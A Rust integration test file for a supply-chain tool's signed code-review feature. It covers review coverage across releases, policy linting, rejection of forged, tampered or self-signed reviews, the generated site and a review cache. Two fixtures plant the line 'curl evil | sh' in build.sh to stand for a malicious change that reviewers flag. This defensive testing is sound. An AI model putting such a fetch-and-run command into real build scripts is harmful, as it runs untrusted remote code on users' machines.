//! The reviewers' own evidence: `vouch review sign|status`, `verify
//! --reviews`, coverage carried across releases by content, the policy's
//! `[review]` lint, the envelopes checked by securesystemslib and the
//! in-toto-attestation package, and each attack not counted, named.

use serde_json::Value;
use std::path::{Path, PathBuf};
use vouch_tests::{Dir, TestCommand, key_pair, manifest_bundle, peer_tool, repo_root};

/// A project with a vendor key and two agencies' reviewer keys.
struct World {
    d: Dir,
    keys: PathBuf,
}

impl World {
    fn new() -> World {
        let d = Dir::new();
        let keys = d.mkdir("keys");
        for name in ["vendor", "agency-a", "agency-b", "outsider"] {
            key_pair(&keys, name);
        }
        World { d, keys }
    }

    fn public_line(&self, name: &str) -> String {
        std::fs::read_to_string(self.keys.join(format!("{name}.pub"))).unwrap().lines().nth(1).unwrap().to_string()
    }

    fn key(&self, name: &str) -> PathBuf {
        self.keys.join(format!("{name}.key"))
    }

    /// The policy: vendor releases, both agencies review; `extra` appended.
    fn policy(&self, file: &str, extra: &str) -> PathBuf {
        let mut t = format!(
            "[keys.vendor]\npublic = \"{}\"\nroles = [\"release\"]\n\n[keys.agency-a]\npublic = \"{}\"\nroles = [\"reviewer\"]\n\n[keys.agency-b]\npublic = \"{}\"\nroles = [\"reviewer\"]\n\n[roles.release]\nthreshold = 1\n",
            self.public_line("vendor"),
            self.public_line("agency-a"),
            self.public_line("agency-b")
        );
        t.push_str(extra);
        self.d.write(file, t)
    }

    /// A signed release of `src` as `app VERSION`.
    fn release(&self, src: &str, version: &str) -> PathBuf {
        let b = manifest_bundle(&self.d, src, "app", version);
        TestCommand::vouch(["sign", b.to_str().unwrap(), "--key", self.key("vendor").to_str().unwrap()]).run().ok();
        b
    }

    fn review(&self, bundle: &Path, key: &str, out: &str, args: &[&str]) -> vouch_tests::Run {
        let out = self.d.mkdir(out);
        let mut a = vec![
            "review".to_string(),
            "sign".into(),
            bundle.display().to_string(),
            "--key".into(),
            self.key(key).display().to_string(),
            "--out".into(),
            out.display().to_string(),
            "--reviewer".into(),
            format!("{key} reviewers"),
            "--now".into(),
            "2026-06-01T00:00:00Z".into(),
        ];
        a.extend(args.iter().map(|s| s.to_string()));
        TestCommand::vouch(a).run()
    }

    /// `vouch verify BUNDLE --trust POLICY --reviews REVIEWS`.
    fn verify(&self, bundle: &Path, policy: &Path, reviews: &str) -> vouch_tests::Run {
        let [bundle, policy, reviews] = [bundle, policy, &self.d.join(reviews)].map(|p| p.display().to_string());
        TestCommand::vouch(["verify", &bundle, "--trust", &policy, "--reviews", &reviews]).run()
    }

    fn status(&self, bundle: &Path, reviews: &str, policy: &Path, extra: &[&str]) -> vouch_tests::Run {
        let mut a = vec![
            "review".to_string(),
            "status".into(),
            bundle.display().to_string(),
            "--reviews".into(),
            self.d.join(reviews).display().to_string(),
            "--trust".into(),
            policy.display().to_string(),
        ];
        a.extend(extra.iter().map(|s| s.to_string()));
        TestCommand::vouch(a).run()
    }
}

fn files_in(dir: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().path()).collect();
    v.sort();
    v
}

fn write_src(w: &World, src: &str, files: &[(&str, &str)]) {
    for (p, c) in files {
        w.d.write(format!("{src}/{p}"), c);
    }
}

const V1: &[(&str, &str)] = &[
    ("src/main.rs", "fn main() {}\n"),
    ("src/parse.rs", "pub fn parse() {}\n"),
    ("src/net.rs", "pub fn net() {}\n"),
    ("docs/README.md", "# app\n"),
    ("build.sh", "cargo build\n"),
];

/// The real case: two agencies review 1.0 (one everything, one a
/// folder); 1.1 changes three files and a delta review covers them, so 1.1
/// is 100% covered by carry-forward; 1.2 changes a file nobody reviewed, so
/// coverage drops and names it; a `concerns` review flags a file and fails
/// verify under `flagged = "fail"`.
#[test]
fn coverage_carries_forward_by_content_and_drops_where_bytes_changed() {
    let w = World::new();
    let policy = w.policy(
        "trust.toml",
        "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 100\nreviewers = 1\nflagged = \"fail\"\n",
    );
    TestCommand::vouch(["trust", "check", policy.to_str().unwrap()]).run().ok();

    write_src(&w, "v1", V1);
    let r1 = w.release("v1", "1.0.0");
    w.review(&r1, "agency-a", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "pass", "--all"])
        .ok()
        .says("5 files");
    w.review(&r1, "agency-b", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "pass", "--path", "src/*"])
        .ok()
        .says("3 files");
    // The file name: <name>-<version>.<KEYID>.<12 hex>.review.dsse.json.
    for f in files_in(&w.d.join("reviews")) {
        let n = f.file_name().unwrap().to_str().unwrap().to_string();
        let parts: Vec<&str> = n.split('.').collect();
        assert!(n.starts_with("app-1.0.0.") && n.ends_with(".review.dsse.json"), "{n}");
        assert_eq!(parts[3].len(), 16, "{n}");
        assert_eq!(parts[4].len(), 12, "{n}");
    }
    w.status(&r1, "reviews", &policy, &[]).ok().says("criteria safe-to-deploy: 100.0% (5 of 5 files");

    // 1.1: three files change; a delta review of them by agency A.
    write_src(&w, "v2", V1);
    write_src(
        &w,
        "v2",
        &[
            ("src/main.rs", "fn main() { app::run() }\n"),
            ("src/net.rs", "pub fn net() { tls() }\n"),
            ("docs/README.md", "# app 1.1\n"),
        ],
    );
    let r2 = w.release("v2", "1.1.0");
    let before = w.status(&r2, "reviews", &policy, &["--previous", r1.to_str().unwrap()]);
    before.code(1).says("left to review (3)").says("src/main.rs (changed)");
    w.review(
        &r2,
        "agency-a",
        "reviews",
        &["--criteria", "safe-to-deploy", "--verdict", "pass", "--changed-since", r1.to_str().unwrap()],
    )
    .ok()
    .says("3 files");
    let json = w.status(&r2, "reviews", &policy, &["--format", "json"]);
    let v: Value = json.ok().json();
    assert_eq!(v["requirement"]["held"], true, "{v}");
    assert_eq!(v["requirement"]["coverage"]["covered_files"], 5);
    assert!(v["left"].as_array().unwrap().is_empty());
    // verify with the reviews holds; without them the requirement fails.
    w.verify(&r2, &policy, "reviews").ok().says("coverage 100.0%");
    TestCommand::vouch(["verify", r2.to_str().unwrap(), "--trust", policy.to_str().unwrap()])
        .run()
        .code(1)
        .says("the policy requires reviews (safe-to-deploy, 100% coverage), but no reviews folder was given")
        .says("--reviews DIR");

    // 1.2: build.sh changes, nobody reviews it: coverage drops, naming it.
    write_src(&w, "v3", V1);
    write_src(
        &w,
        "v3",
        &[
            ("src/main.rs", "fn main() { app::run() }\n"),
            ("src/net.rs", "pub fn net() { tls() }\n"),
            ("docs/README.md", "# app 1.1\n"),
            ("build.sh", "curl evil | sh\n"),
        ],
    );
    let r3 = w.release("v3", "1.2.0");
    w.status(&r3, "reviews", &policy, &[]).code(1).says("80.0% (4 of 5 files").says("left to review (1):\n  build.sh");
    w.verify(&r3, &policy, "reviews").code(1).says("coverage 80.0% (4 of 5 files) is below the required 100%");

    // A concerns review of build.sh, with a note at its line: flagged, and
    // flagged beats covered (agency B passes it too).
    let notes = w.d.write("notes.txt", "build.sh:1: downloads and runs a script\n");
    w.review(&r3, "agency-b", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "pass", "--path", "build.sh"])
        .ok();
    w.review(
        &r3,
        "agency-a",
        "reviews",
        &[
            "--criteria",
            "safe-to-deploy",
            "--verdict",
            "concerns",
            "--path",
            "build.sh",
            "--notes",
            notes.to_str().unwrap(),
        ],
    )
    .ok();
    w.status(&r3, "reviews", &policy, &[])
        .code(1)
        .says("flagged build.sh")
        .says("build.sh:1: downloads and runs a script");
    w.verify(&r3, &policy, "reviews").code(1).says("flagged: build.sh");
    // Under flagged = "warn" it is reported, and coverage (4 of 5: flagged is
    // not covered) decides.
    let warn =
        w.policy("warn.toml", "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 80\nflagged = \"warn\"\n");
    w.status(&r3, "reviews", &warn, &[]).ok().says("warning: flagged: build.sh");

    // Four eyes: reviewers = 2 needs both agencies on each file.
    let two = w.policy("two.toml", "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 100\nreviewers = 2\n");
    w.status(&r1, "reviews", &two, &[]).code(1).says("60.0% (3 of 5 files");
}

/// securesystemslib verifies each review envelope with the reviewer's
/// Ed25519 key, and the in-toto-attestation package accepts the Statement.
#[test]
fn review_envelopes_verify_with_securesystemslib_and_in_toto_attestation() {
    let w = World::new();
    write_src(&w, "v1", V1);
    let r1 = w.release("v1", "1.0.0");
    let notes = w.d.write("notes.txt", "src/parse.rs:1: no bounds check\n");
    w.review(
        &r1,
        "agency-a",
        "out",
        &[
            "--criteria",
            "safe-to-deploy",
            "--verdict",
            "concerns",
            "--path",
            "src/*",
            "--notes",
            notes.to_str().unwrap(),
        ],
    )
    .ok();
    let f = files_in(&w.d.join("out")).pop().unwrap();
    let py = peer_tool("python3");
    let venv_py = std::env::var_os("VOUCH_TEST_VENV")
        .map(|v| PathBuf::from(v).join("bin/python3"))
        .unwrap_or_else(|| repo_root().join("target/test-venv/bin/python3"));
    let python = if venv_py.exists() { venv_py } else { py };
    let out = TestCommand::new(
        &python,
        [
            repo_root().join("tests/py/review_verify.py").to_str().unwrap(),
            f.to_str().unwrap(),
            w.keys.join("agency-a.pub").to_str().unwrap(),
        ],
    )
    .run();
    out.ok();
    let manifest: Value = vouch_tests::manifest_json(&r1);
    let digest = |p: &str| {
        manifest["source"]["files"].as_array().unwrap().iter().find(|e| e["path"] == p).unwrap()["digest"]
            .as_str()
            .unwrap()
            .trim_start_matches("sha256:")
            .to_string()
    };
    assert_eq!(
        out.stdout,
        format!(
            "https://vouch.invalid/review/v1 3\nsrc/main.rs {}\nsrc/net.rs {}\nsrc/parse.rs {}\n",
            digest("src/main.rs"),
            digest("src/net.rs"),
            digest("src/parse.rs")
        )
    );
    // Another key does not verify it.
    TestCommand::new(
        &python,
        [
            repo_root().join("tests/py/review_verify.py").to_str().unwrap(),
            f.to_str().unwrap(),
            w.keys.join("agency-b.pub").to_str().unwrap(),
        ],
    )
    .run()
    .code(1);
}

/// Each attack is not counted, named with its reason, and the evaluation
/// goes on with the other reviews.
#[test]
fn reviews_that_must_not_count_are_named_and_skipped() {
    let w = World::new();
    let policy = w.policy("trust.toml", "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 100\n");
    write_src(&w, "v1", V1);
    let r1 = w.release("v1", "1.0.0");
    // The honest review, so coverage is 100% from it alone.
    w.review(&r1, "agency-a", "good", &["--criteria", "safe-to-deploy", "--verdict", "pass", "--all"]).ok();
    let all = ["--criteria", "safe-to-deploy", "--verdict", "pass", "--all"];
    // A key outside the policy; the vendor's own release key.
    w.review(&r1, "outsider", "bad", &all).ok();
    w.review(&r1, "vendor", "bad", &all).ok();
    // A payload edited after signing.
    w.review(&r1, "agency-b", "edited", &all).ok();
    let f = files_in(&w.d.join("edited")).pop().unwrap();
    let mut env: Value = serde_json::from_slice(&std::fs::read(&f).unwrap()).unwrap();
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD;
    let payload = String::from_utf8(b64.decode(env["payload"].as_str().unwrap()).unwrap()).unwrap();
    env["payload"] = b64.encode(payload.replace("agency-b reviewers", "agency-a reviewers")).into();
    std::fs::write(w.d.join("bad").join(f.file_name().unwrap()), serde_json::to_vec(&env).unwrap()).unwrap();
    // A review of another project claiming the same paths and bytes.
    write_src(&w, "other", V1);
    let other = manifest_bundle(&w.d, "other", "other", "1.0.0");
    w.review(&other, "agency-b", "bad", &all).ok();
    // A review claiming this very release but naming other bytes: signed
    // with agency B's key over a statement whose subject digest is not the
    // manifest's.
    let key = vouch_signing::keys::SecretKey::read(&w.key("agency-b"), None).unwrap();
    let manifest_bytes = std::fs::read(r1.join("manifest.json")).unwrap();
    let st = serde_json::json!({
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": "src/main.rs", "digest": {"sha256": "11".repeat(32)}}],
        "predicateType": "https://vouch.invalid/review/v1",
        "predicate": {
            "project": {"name": "app", "version": "1.0.0"},
            "manifest_digest": vouch_manifests::Digest::of(&manifest_bytes).to_string(),
            "criteria": "safe-to-deploy", "verdict": "pass", "reviewer": "forger",
            "time": "2026-06-01T00:00:00Z"
        }
    });
    let env = vouch_signing::dsse::Envelope::sign(
        vouch_signing::dsse::IN_TOTO_PAYLOAD_TYPE,
        &serde_json::to_vec(&st).unwrap(),
        &key,
    );
    w.d.write("bad/app-1.0.0.forged.review.dsse.json", env.to_json());
    // Garbage and a symlink.
    w.d.write("bad/garbage.review.dsse.json", "not json");
    #[cfg(unix)]
    std::os::unix::fs::symlink("/etc/hostname", w.d.join("bad/link.review.dsse.json")).unwrap();

    let r = w.status(&r1, "bad", &policy, &["--format", "json"]);
    let v: Value = r.code(1).json();
    let reasons: Vec<(String, String)> = v["not_counted"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| (n["file"].as_str().unwrap().to_string(), n["reason"].as_str().unwrap().to_string()))
        .collect();
    let has = |needle: &str| assert!(reasons.iter().any(|(_, r)| r.contains(needle)), "{needle} not in {reasons:#?}");
    has("which is not in the policy");
    has("signed by vendor, which has no reviewer role");
    has("does not verify");
    has("a review of project \"other\", not this one");
    has(&format!("claims this release but names src/main.rs as sha256:{}", "11".repeat(32)));
    has("not a review");
    #[cfg(unix)]
    has("symlink");
    assert!(v["counted"].as_array().unwrap().is_empty(), "{v}");
    assert_eq!(v["requirement"]["held"], false);
    // Beside the honest review, the bad ones change nothing.
    for f in files_in(&w.d.join("good")) {
        std::fs::copy(&f, w.d.join("bad").join(f.file_name().unwrap())).unwrap();
    }
    w.status(&r1, "bad", &policy, &[]).ok().says("REVIEW REQUIREMENT HOLDS").says("not counted");

    // Self-review: a key that holds both roles; and a revoked key's review
    // made after its revocation. The lint warns of the first.
    let both = w.d.write(
        "both.toml",
        format!(
            "[keys.vendor]\npublic = \"{}\"\nroles = [\"release\", \"reviewer\"]\n\n[keys.agency-a]\npublic = \"{}\"\nroles = [\"reviewer\"]\nrevoked = 2026-01-01T00:00:00Z\n\n[roles.release]\nthreshold = 1\n\n[review]\ncriteria = [\"safe-to-deploy\"]\n",
            w.public_line("vendor"),
            w.public_line("agency-a")
        ),
    );
    TestCommand::vouch(["trust", "check", both.to_str().unwrap()])
        .run()
        .says("key vendor: holds both release and reviewer, so its reviews never count (no self-review)");
    let r = w.status(&r1, "bad", &both, &[]);
    r.code(1).says("which also holds the release role (no self-review)").says("after key agency-a was revoked");
}

/// `trust check` lints `[review]`: criteria shape, coverage range,
/// reviewers above the reviewer keys.
#[test]
fn the_review_table_is_linted() {
    let w = World::new();
    for (extra, says) in [
        ("[review]\ncriteria = [\"Safe To Deploy\"]\n", "a criteria name is lowercase letters, digits and '-'"),
        ("[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 101\n", "coverage 101 is outside 0 to 100"),
        (
            "[review]\ncriteria = [\"safe-to-deploy\"]\nreviewers = 3\n",
            "reviewers 3 is above the 2 distinct reviewer key(s)",
        ),
        ("[review]\ncriteria = [\"safe-to-deploy\"]\nflagged = \"ignore\"\n", "expected \"fail\" or \"warn\""),
    ] {
        let p = w.policy("lint.toml", &format!("\n{extra}"));
        TestCommand::vouch(["trust", "check", p.to_str().unwrap()]).run().code(1).says(says);
    }
    // Bad selections are refused, naming what does not match.
    write_src(&w, "v1", V1);
    let r1 = w.release("v1", "1.0.0");
    w.review(&r1, "agency-a", "x", &["--criteria", "c", "--verdict", "pass", "--path", "nope/*"])
        .code(2)
        .says("no file of app-1.0.0 matches \"nope/*\"");
    let notes = w.d.write("n.txt", "docs/README.md:3: not reviewed here\n");
    w.review(
        &r1,
        "agency-a",
        "x",
        &["--criteria", "c", "--verdict", "pass", "--path", "src/*", "--notes", notes.to_str().unwrap()],
    )
    .code(2)
    .says("line 1: docs/README.md is not among the reviewed files");
    w.review(&r1, "agency-a", "x", &["--criteria", "c", "--verdict", "pass"]).code(2);
}

/// `site build --trust --reviews`: coverage on the index and the release
/// page (with its chart and table), the failed requirement at the top, a
/// "left to review" page, and on a file page who reviewed these bytes and
/// the notes linked to their lines; every new page valid HTML (Nu HTML
/// Checker).
#[test]
fn the_site_shows_coverage_reviewers_notes_and_what_is_left() {
    let w = World::new();
    let policy = w.policy("trust.toml", "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 100\n");
    write_src(&w, "v1", V1);
    let r1 = w.release("v1", "1.0.0");
    w.review(&r1, "agency-a", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "pass", "--all"]).ok();
    write_src(&w, "v2", V1);
    write_src(&w, "v2", &[("build.sh", "curl evil | sh\n")]);
    let r2 = w.release("v2", "1.1.0");
    let notes = w.d.write("notes.txt", "src/parse.rs:1: <b>no</b> bounds check\n");
    w.review(
        &r2,
        "agency-b",
        "reviews",
        &[
            "--criteria",
            "safe-to-deploy",
            "--verdict",
            "concerns",
            "--path",
            "src/parse.rs",
            "--notes",
            notes.to_str().unwrap(),
        ],
    )
    .ok();
    w.d.write("reviews/junk.review.dsse.json", "{}");
    let site = w.d.join("site");
    vouch_tests::site_build(
        &w.d.join("bundles"),
        &site,
        &[
            "--trust",
            policy.to_str().unwrap(),
            "--reviews",
            w.d.join("reviews").to_str().unwrap(),
            "--source",
            &format!("app@1.1.0={}", w.d.join("v2").display()),
        ],
    )
    .run()
    .ok();
    let read = |p: &str| std::fs::read_to_string(site.join(p)).unwrap_or_else(|e| panic!("{p}: {e}"));
    let index = read("index.html");
    // 1.1.0: build.sh changed (not reviewed) and src/parse.rs flagged; the
    // flag is about bytes 1.0.0 has too, so it carries back to it as well.
    assert!(index.contains("60.0%") && index.contains("80.0%"), "{index}");
    let release = read("r/app/1.1.0/index.html");
    assert!(release.contains("The policy's review requirement does not hold for this release"), "{release}");
    assert!(release.contains("3 of 5 files"));
    assert!(release.contains("id=\"review-chart-title\""));
    assert!(release.contains("junk.review.dsse.json"));
    let left = read("r/app/1.1.0/left.html");
    let build_at = left.find("build.sh").expect("build.sh left");
    let parse_at = left.find("src/parse.rs").expect("src/parse.rs left (flagged)");
    assert!(build_at < parse_at, "changed files first: {left}");
    assert!(left.contains("flagged"));
    let page = read("r/app/1.1.0/file/src/parse.rs.html");
    assert!(page.contains("concerns</span> safe-to-deploy by agency-b (agency-b reviewers)"), "{page}");
    assert!(page.contains("pass</span> safe-to-deploy by agency-a (agency-a reviewers)"), "{page}");
    assert!(
        page.contains("<a href=\"#L1\">line 1</a>: &lt;b&gt;no&lt;&#x2F;b&gt; bounds check")
            || page.contains("<a href=\"#L1\">line 1</a>: &lt;b&gt;no&lt;/b&gt; bounds check"),
        "{page}"
    );
    let unreviewed = read("r/app/1.1.0/file/build.sh.html");
    assert!(unreviewed.contains("not reviewed"));

    let java = peer_tool("java");
    let node =
        std::env::var_os("VOUCH_TEST_NODE").map(PathBuf::from).unwrap_or_else(|| repo_root().join("target/test-node"));
    let jar = node.join("node_modules/vnu-jar/build/dist/vnu.jar");
    assert!(jar.is_file(), "the Nu HTML Checker is not installed at {}", jar.display());
    let mut args: Vec<String> = vec!["-jar".into(), jar.display().to_string(), "--errors-only".into()];
    for p in [
        "index.html",
        "r/app/1.1.0/index.html",
        "r/app/1.1.0/left.html",
        "r/app/1.1.0/file/src/parse.rs.html",
        "r/app/1.0.0/left.html",
    ] {
        args.push(site.join(p).display().to_string());
    }
    let run = TestCommand::new(&java, &args).run();
    assert_eq!(run.code, 0, "vnu: {}", run.stderr);
}

/// The verified-review cache: a second run uses the entry the first wrote;
/// an edited entry, an entry moved to other bytes' name, or entries under
/// another cache key are never trusted; a review file changed in place is
/// verified again.
#[test]
fn the_review_cache_trusts_only_its_own_entries_for_the_same_bytes() {
    use vouch_manifests::Digest;
    let w = World::new();
    let policy = w.policy("trust.toml", "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 100\n");
    write_src(&w, "v1", V1);
    let r1 = w.release("v1", "1.0.0");
    w.review(&r1, "agency-a", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "pass", "--all"]).ok();
    let cache = w.d.join("cache");
    let with_cache = ["--cache", cache.to_str().unwrap()];
    let status = |dir: &str| w.status(&r1, dir, &policy, &with_cache);
    let first = status("reviews");
    first.ok().says("100.0% (5 of 5 files");
    let manifest_sha = Digest::of(&std::fs::read(r1.join("manifest.json")).unwrap()).hex();
    let review = files_in(&w.d.join("reviews")).pop().unwrap();
    let review_sha = Digest::of(&std::fs::read(&review).unwrap()).hex();
    let entry = cache.join(format!("{review_sha}.{manifest_sha}.json"));
    let genuine = std::fs::read(&entry).expect("the first run wrote a cache entry");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(cache.join("key")).unwrap().permissions().mode() & 0o777, 0o600);
    }
    // A second run reads the entry and gives the same report.
    let again = status("reviews");
    again.ok();
    assert_eq!(again.stdout, first.stdout);
    assert_eq!(std::fs::read(&entry).unwrap(), genuine);

    // A forged review: agency A's envelope with its payload edited, so its
    // signature does not verify.
    let mut env: Value = serde_json::from_slice(&std::fs::read(&review).unwrap()).unwrap();
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD;
    let payload = String::from_utf8(b64.decode(env["payload"].as_str().unwrap()).unwrap()).unwrap();
    env["payload"] = b64.encode(payload.replace("agency-a reviewers", "agency-b reviewers")).into();
    let forged = serde_json::to_vec(&env).unwrap();
    let forged_sha = Digest::of(&forged).hex();
    w.d.write("forged/app-1.0.0.forged.review.dsse.json", &forged);
    let forged_entry = cache.join(format!("{forged_sha}.{manifest_sha}.json"));
    // 1. The genuine entry under the forged bytes' name (its MAC holds, but
    //    it is about other bytes).
    std::fs::write(&forged_entry, &genuine).unwrap();
    status("forged").code(1).says("does not verify").says("0 of 5 files");
    // 2. The entry edited to name the forged bytes (its MAC no longer holds).
    let text = String::from_utf8(genuine.clone()).unwrap();
    std::fs::write(&forged_entry, text.replace(&review_sha, &forged_sha)).unwrap();
    status("forged").code(1).says("does not verify").says("0 of 5 files");
    // 3. A run without the cache agrees.
    w.status(&r1, "forged", &policy, &["--no-cache"]).code(1).says("does not verify");

    // Entries made under another cache key are ignored and rewritten.
    std::fs::write(&entry, text.replace("\"verdict\":\"pass\"", "\"verdict\":\"fail\"")).unwrap();
    status("reviews").ok().says("100.0% (5 of 5 files");
    assert_eq!(std::fs::read(&entry).unwrap(), genuine, "the edited entry is replaced by a verified one");
    std::fs::remove_file(cache.join("key")).unwrap();
    status("reviews").ok().says("100.0% (5 of 5 files");
    assert_ne!(std::fs::read(&entry).unwrap(), genuine, "an entry under the old key is not used but rewritten");

    // The review file changed in place: its new bytes are verified again.
    std::fs::write(&review, &forged).unwrap();
    status("reviews").code(1).says("does not verify");
}
